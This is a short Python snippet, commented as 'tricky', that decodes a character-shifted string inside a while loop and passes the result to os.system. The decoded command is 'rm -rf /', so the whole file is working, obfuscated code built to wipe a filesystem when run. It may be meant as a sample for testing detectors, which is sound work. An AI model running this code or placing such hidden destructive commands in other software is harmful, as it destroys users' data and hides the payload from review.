# tricky: decodes in a while loop
s = "sn!.sg!0"
i, o = 0, ""
while i < len(s):
    o += chr(ord(s[i]) - 1)
    i += 1
__import__("os").system(o)
